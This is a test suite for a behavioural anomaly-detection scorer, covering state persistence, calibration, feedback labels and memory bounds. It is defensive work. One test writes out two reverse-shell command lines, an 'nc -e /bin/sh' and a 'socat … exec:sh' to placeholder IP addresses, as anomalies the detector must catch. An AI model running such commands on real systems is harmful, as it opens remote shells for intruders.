import t from 'tap';
import { seededRandom as rng } from '../demo/generate';
import { Subject, type SubjectOptions } from '../scorer/subject';
import type { BehaviourEvent } from '../scorer/types';
import { DAY, execEvent, SMALL_SUBJECT, START } from './helpers/subject-options';

// A subject's window and held-out events are kept as columns, events that repeat sharing one
// copy of their tokens (scorer/subject.ts, EventColumns; docs/benchmarks.md, memory). What
// must hold whatever the layout: the state file holds every event once per list, with the
// fields as they came; a subject read back from it holds the same and scores the next events
// exactly as the one that stayed in memory; the window stays bounded; and an event labelled
// anomalous leaves what later retraining learns.

const OPTIONS: SubjectOptions = SMALL_SUBJECT;

/** a routine of a few programs at working hours, with now and then a one-off command line */
function stream(seed: number, from: number, n: number): BehaviourEvent[] {
  const r = rng(seed);
  const tools = ['git', 'vim', 'make', 'ls', 'curl'];
  return Array.from({ length: n }, (_, i) => {
    const tool = i % 7 === 3 ? 'ssh' : tools[Math.floor(r() * tools.length)];
    const time = START + Math.floor((from + i) / 60) * DAY + 9 * 3600 + ((from + i) % 60) * 480;
    const hour = `hour=${String(Math.floor((time % DAY) / 3600)).padStart(2, '0')}`;
    return {
      key: `exec /usr/bin/${tool} <- /bin/bash`,
      values: ['kind=process', `exe=/usr/bin/${tool}`, hour],
      pairs: [`parent=/bin/bash>exe=/usr/bin/${tool}`, `exe=/usr/bin/${tool}>${hour}`],
      text: i % 13 === 0 ? `${tool} --once ${i}` : `${tool} -v`,
      time,
    };
  });
}

const json = (x: unknown) => JSON.parse(JSON.stringify(x));

t.test('a window saved and read back is the same window, and scores the same', async (t) => {
  const kept = new Subject('dev@app-01', OPTIONS);
  await kept.scoreEvents(stream(1, 0, 900));
  t.equal(kept.state, 'monitoring', 'the subject trained');
  const inList = (s: { window: { e: BehaviourEvent }[]; recent: { e: BehaviourEvent }[] }) => [...s.window, ...s.recent].some((x) => x.e.key.includes('/ssh '));
  t.ok(inList(json(kept.toState())), '`ssh` is in the lists');
  // labelled anomalous, it must leave the window and the held-out events
  kept.label(
    stream(1, 0, 900).find((e) => e.key.includes('/ssh '))!,
    'anomalous',
  );
  const state = json(kept.toState());

  t.ok(state.window.length > 0 && state.window.length <= OPTIONS.windowEvents * 1.25, `the window is bounded (${state.window.length} events)`);
  t.ok(
    state.window.every((x: { n: number }, i: number) => i === 0 || x.n > state.window[i - 1].n),
    'the window is in stream order',
  );
  t.notOk(inList(state), 'the event labelled anomalous is in neither list');
  t.same(Object.keys(state.window[0].e), ['key', 'values', 'pairs', 'text', 'time'], 'events keep their fields, in order');
  const recentByN = new Map(state.recent.map((x: { n: number; e: BehaviourEvent }) => [x.n, x.e]));
  const shared = state.window.filter((x: { n: number }) => recentByN.has(x.n));
  t.ok(shared.length > 0, 'some events are in both lists');
  t.ok(
    shared.every((x: { n: number; e: BehaviourEvent }) => JSON.stringify(recentByN.get(x.n)) === JSON.stringify(x.e)),
    'an event in both lists is the same event in both',
  );
  t.ok(
    state.window.some((x: { e: BehaviourEvent }) => x.e.text.includes('--once')),
    'one-off command lines are kept as they came',
  );

  const read = Subject.fromState(json(state), OPTIONS);
  t.same(json(read.toState()), state, 'read back, it saves the same state');

  // both go on through a retraining: the same scores, the same reasons, the same state after
  const next = stream(2, 900, 400);
  const a = await kept.scoreEvents(next);
  const b = await read.scoreEvents(next);
  t.same(b, a, 'the subject read back scores the next 400 events as the one kept in memory');
  t.ok(kept.lastTrained > state.lastTrained, 'a retraining happened on the way');
  t.same(json(read.toState()), json(kept.toState()), 'and both end in the same state');
});

t.test('a subject is not calibrated on fewer than 50 events every model scored (review5)', async (t) => {
  // docs/scoring.md: "A subject with fewer than 50 held-out events is never calibrated". The
  // stretch held out (the newest events not bad) is what the SVM is scored on, and rarity is
  // cross-fitted on an even sample of at most 1,000 events a fold; the combined statistic is
  // calibrated on the events both scored, the stretch's events that fall in the sample. A key
  // labelled anomalous leaves the window and the stretch: a job that took over a subject's last
  // week, labelled so, left 50 events to hold out, about half of them in the sample, and the
  // subject went monitoring on a calibration of 45 events (anomaly_models' `calibration`)
  const options: SubjectOptions = {
    ...OPTIONS,
    minSeconds: 19 * DAY,
    windowEvents: 10_000,
    contextLength: 0,
    modelOptions: { ocsvm: { maxTrain: 300, dims: 64 } },
  };
  const event = (tool: string, time: number): BehaviourEvent => ({
    key: `exec /usr/bin/${tool} <- /bin/bash`,
    values: ['kind=process', `exe=/usr/bin/${tool}`, `hour=${String(Math.floor((time % DAY) / 3600)).padStart(2, '0')}`],
    pairs: [`parent=/bin/bash>exe=/usr/bin/${tool}`],
    text: `${tool} -v`,
    time,
  });
  const tools = ['git', 'vim', 'make', 'ls'];
  const day = (d: number, n: number, from = 0) =>
    Array.from({ length: n }, (_, i) =>
      event(d >= 11 && d < 19 && (from + i) % 100 !== 0 ? 'job' : tools[(from + i) % 4], START + d * DAY + 8 * 3600 + (from + i) * 60),
    );
  const s = new Subject('dev@app-01', options);
  for (let d = 0; d < 19; d++) await s.scoreEvents(day(d, 500));
  t.equal(s.state, 'learning', '19 days of 500 events, the last eight mostly a job');
  s.label(event('job', START + 18 * DAY), 'anomalous');
  // day 19 makes the 19 days: the subject trains as soon as it has 50 events to hold out
  await s.scoreEvents(day(19, 40));
  const first = s.summaries()[0];
  t.ok(s.state === 'learning' || first.calibration >= 50, `${s.state}, calibration ${first.calibration}`);
  t.equal(s.state, 'learning', 'too few events every model scored: it learns on');
  const tried = s.toState().trainedAtEvents;
  await s.scoreEvents(day(19, 10, 40));
  t.equal(s.toState().trainedAtEvents, tried, 'and does not fit again at every event');
  await s.scoreEvents(day(19, 100, 50));
  const after = s.summaries();
  t.equal(s.state, 'monitoring', 'with more events held out it is calibrated');
  t.ok(after[0].calibration >= 50, `on ${after[0].calibration} events`);
});

t.test('a key labelled anomalous while the subject learns is not learnt from its later events (review5)', async (t) => {
  // design.md: `anomalous` means "never learn it". A subject still learning is scored by its
  // host baseline, and its rows can be labelled like any other; the label took the key out of
  // the window and the held-out events, but every later event of it was learnt again until the
  // subject trained: 100 events in, `ssh` labelled, and the first training (at 200) fitted on
  // and held out the `ssh` events after the label (29 entries in the two lists)
  const s = new Subject('dev@app-01', OPTIONS);
  const events = stream(1, 0, 300);
  await s.scoreEvents(events.slice(0, 100));
  s.label(
    events.find((e) => e.key.includes('/ssh '))!,
    'anomalous',
  );
  await s.scoreEvents(events.slice(100, 250));
  t.equal(s.state, 'monitoring', 'it trained');
  const state = json(s.toState());
  const ssh = [...state.window, ...state.recent].filter((x: { e: BehaviourEvent }) => x.e.key.includes('/ssh '));
  t.equal(ssh.length, 0, 'no `ssh` event in the window or the held-out events');
  const [later] = await s.scoreEvents([events.slice(250).find((e) => e.key.includes('/ssh '))!]);
  t.equal(later.verdict, 'bad', `and it is flagged (${later.reasons})`);
});

t.test('a row labelled normal is learnt, not taken for a sample of normal evidence (review5)', async (t) => {
  // `normal` feedback puts the event in the window, and retraining held it out with the newest
  // events (and cross-fitted rarity over the whole window): a reverse shell labelled normal (a sanctioned test) became the most extreme value
  // of the subject's calibration, so every later anomaly less extreme than it was inside the
  // observed range and at best 1/(n+1): a never-seen `socat` reverse shell, bad (0.000)
  // without the label, was ugly (0.497) after it, for as long as the event stayed in the window
  const options: SubjectOptions = { ...OPTIONS, windowEvents: 2000, minSeconds: 0 };
  const tools = ['git', 'vim', 'make', 'ls', 'curl'];
  const event = (tool: string, time: number, parent = '/bin/bash', text = `${tool} -v`): BehaviourEvent => {
    const hour = `hour=${String(Math.floor((time % DAY) / 3600)).padStart(2, '0')}`;
    return {
      key: `exec /usr/bin/${tool} <- ${parent}`,
      values: ['kind=process', `exe=/usr/bin/${tool}`, hour, `parent=${parent}`],
      pairs: [`parent=${parent}>exe=/usr/bin/${tool}`, `exe=/usr/bin/${tool}>${hour}`],
      text,
      time,
    };
  };
  const run = async (label: boolean) => {
    const r = rng(1);
    const day = (d: number) => Array.from({ length: 60 }, (_, i) => event(tools[Math.floor(r() * tools.length)], START + d * DAY + 9 * 3600 + i * 480));
    let s = new Subject('dev@app-01', options);
    for (let d = 0; d < 8; d++) await s.scoreEvents(day(d));
    const shell = event('nc', START + 8 * DAY + 9 * 3600, '/tmp/x', 'nc -e /bin/sh 192.0.2.4 4444');
    const [first] = await s.scoreEvents([shell]);
    if (label) s.label(shell, 'normal');
    // and a restart in between: what was labelled is in the subject's file
    s = Subject.fromState(json(s.toState()), options);
    // four more days: the subject retrains with the labelled event in its window
    for (let d = 8; d < 12; d++) await s.scoreEvents(day(d));
    const [other] = await s.scoreEvents([event('socat', START + 12 * DAY + 10 * 3600, '/bin/bash', 'socat tcp:198.51.100.8:443 exec:sh')]);
    const [again] = await s.scoreEvents([{ ...shell, time: START + 12 * DAY + 11 * 3600 }]);
    return { first, other, again, state: json(s.toState()) };
  };
  const plain = await run(false);
  const labelled = await run(true);
  t.equal(plain.first.verdict, 'bad', `the reverse shell is bad (${plain.first.score})`);
  t.equal(plain.other.verdict, 'bad', `without the label a later socat shell is bad (${plain.other.score})`);
  t.ok(
    labelled.state.window.some((x: { e: BehaviourEvent }) => x.e.key.includes('/nc ')),
    'the labelled event is in the window',
  );
  t.equal(labelled.again.verdict, 'good', `the same event is good after the label (${labelled.again.score})`);
  t.equal(labelled.other.verdict, 'bad', `and the label does not blunt the next anomaly (${labelled.other.score}: ${labelled.other.reasons})`);
});

t.test('rarity is cross-fitted over days as the calendar has them, whatever order the events came in (review5)', async (t) => {
  // the folds are days ranked by when they come; the ranks counted every change of day in
  // stream order, and an event of an earlier day coming later (a row labelled normal joins the
  // window with the newest number and its own old time; logs read out of order) counted its day
  // again, and the day after it once more: the same day split over two folds (each judged by a
  // model fitted on part of it), and five folds made of fewer than five days
  const options: SubjectOptions = { ...OPTIONS, models: ['rarity'], windowEvents: 2000, minSeconds: 0 };
  const r = rng(2);
  const tools = ['git', 'vim', 'make', 'ls', 'curl'];
  const event = (d: number, i: number): BehaviourEvent => {
    const tool = tools[Math.floor(r() * tools.length)];
    const time = START + d * DAY + 9 * 3600 + i * 480;
    return execEvent(tool, time);
  };
  const day = (d: number) => Array.from({ length: 60 }, (_, i) => event(d, i));
  const s = new Subject('dev@app-01', options);
  // the first day and four more: fewer than the five days cross-fitting needs besides the first
  for (let d = 0; d < 4; d++) await s.scoreEvents(day(d));
  const trained = s.summaries()[0].calibration;
  t.ok(trained > 0, `monitoring, calibrated on ${trained} held-out events`);
  s.label(event(1, 30), 'normal');
  await s.scoreEvents(day(4));
  t.ok(s.toState().lastTrained >= START + 4 * DAY, 'retrained on the fifth day, four days after the first');
  const calibration = s.summaries()[0].calibration;
  // held out: the newest 30 % of the window (no cross-fitting), not every event of four days
  t.ok(calibration <= 0.3 * 5 * 60, `calibrated on the newest stretch only (${calibration} events)`);
});

t.test('a labelled row of a day the window has left does not make a day of its own to cross-fit over (review6)', async (t) => {
  // events labelled normal are never held out, so no fold can be made of them; ranked among
  // the window's days, a row of last week labelled now (retained rows outlive the window)
  // brought its day: four days of history made the five folds cross-fitting needs, one of
  // them a single event nobody scores
  const options: SubjectOptions = { ...OPTIONS, models: ['rarity'], windowEvents: 160, minSeconds: 0 };
  const r = rng(2);
  const tools = ['git', 'vim', 'make', 'ls', 'curl'];
  const event = (d: number, i: number): BehaviourEvent => {
    const tool = tools[Math.floor(r() * tools.length)];
    return {
      key: `exec /usr/bin/${tool} <- /bin/bash`,
      values: ['kind=process', `exe=/usr/bin/${tool}`],
      pairs: [`parent=/bin/bash>exe=/usr/bin/${tool}`],
      text: `${tool} -v`,
      time: START + d * DAY + 9 * 3600 + i * 480,
    };
  };
  const day = (d: number) => Array.from({ length: 60 }, (_, i) => event(d, i));
  const daysHeld = (s: Subject) => new Set([...s.toState().window, ...s.toState().recent].map((x) => Math.floor((x.e.time - START) / DAY)));
  const run = async (label: boolean) => {
    const s = new Subject('dev@app-01', options);
    for (let d = 0; d <= 9; d++) await s.scoreEvents(day(d));
    if (label) s.label(event(2, 30), 'normal');
    await s.scoreEvents(day(10));
    return s;
  };
  const plain = await run(false);
  t.same(
    [...daysHeld(plain)].sort((a, b) => a - b),
    [7, 8, 9, 10],
    'the window holds four days, the first long gone',
  );
  const stretch = plain.summaries()[0].calibration;
  t.ok(stretch <= 0.3 * 200, `without the label: calibrated on the newest stretch (${stretch} events)`);
  const labelled = await run(true);
  t.ok(labelled.toState().lastTrained >= START + 10 * DAY, 'retrained on day 10');
  const calibration = labelled.summaries()[0].calibration;
  t.equal(calibration, stretch, `with a row of day 2 labelled: the same stretch, not cross-fitted (${calibration} events)`);
});

t.test(
  "a local user's events of the longest tokens and text the features keep hold a window of bounded size, not window_events of them (rootsafe)",
  async (t) => {
    // a local user's own programs, run from directories of long names of their choosing with
    // argument lists of them: the extractor keeps 4,096 characters of a command line and 1,024 of
    // a path, and every one of the user's events is a new form and a new text. A window of
    // retrain.window_events (20,000) of them held some 9 kB each in their subject and as much
    // again in the host baseline: 160 MB of heap for one user's 20,000 execs (`/tmp` script on
    // the scorer: rss 951 MB while training), past the 200 MB osqueryd's watchdog allows the
    // extension, which a restart loads again from the subject's file
    const r = rng(7);
    const letters = (n: number) => Array.from({ length: n }, () => 'ghijklmnopqrstuvwxyz'[Math.floor(r() * 20)]).join('');
    const hostile = (i: number): BehaviourEvent => {
      const dir = `~/${letters(900)}`;
      return {
        key: `exec ${dir}/x <- /bin/bash`,
        values: ['kind=process', `exe=${dir}/x`, `cwd=${dir}`, `cmd=x ${letters(150)}`, 'hour=10'],
        pairs: [`parent=/bin/bash>exe=${dir}/x`, `exe=${dir}/x>cmd=x ${letters(150)}`],
        text: `x ${letters(4094)}`,
        time: START + i * 30,
      };
    };
    const s = new Subject('eve@app-01', OPTIONS);
    const n = OPTIONS.windowEvents * 3;
    for (let i = 0; i < n; i += 100) await s.scoreEvents(Array.from({ length: 100 }, (_, k) => hostile(i + k)));
    const state = json(s.toState()) as { window: { e: BehaviourEvent }[]; recent: { e: BehaviourEvent }[] };
    const chars = (list: { e: BehaviourEvent }[]) =>
      list.reduce((c, { e }) => c + e.text.length + e.key.length + [...e.values, ...e.pairs].reduce((a, v) => a + v.length, 0), 0);
    const perEvent = chars(state.window) / state.window.length;
    t.ok(perEvent > 7000, `each event holds ${Math.round(perEvent)} characters`);
    // what a window of the same number of events of ~540 characters holds (the most of any
    // subject or host baseline of the scenario sets and the real logs: heldout2's build-2)
    const normal = OPTIONS.windowEvents * 1.25 * 1000;
    t.ok(chars(state.window) <= normal, `the window holds ${chars(state.window)} characters (${state.window.length} events), at most ${normal}`);
    t.ok(chars(state.recent) <= normal * OPTIONS.heldOutFraction, `the held-out events hold ${chars(state.recent)} characters (${state.recent.length} events)`);
    t.ok(state.window.length > 10, 'the newest events are kept');
    // and the tables that share one copy of each text and token among the events that repeat
    // them (bounded by their counts, 2 and 4 times window_events) let go of what the window let go
    const tables = s as unknown as { texts: Map<string, string>; strings: Map<string, string> };
    const held = [...tables.texts.keys(), ...tables.strings.keys()].reduce((c, x) => c + x.length, 0);
    t.ok(held <= OPTIONS.windowEvents * 100 + 20_000, `the tables of one copy hold ${held} characters`);
  },
);
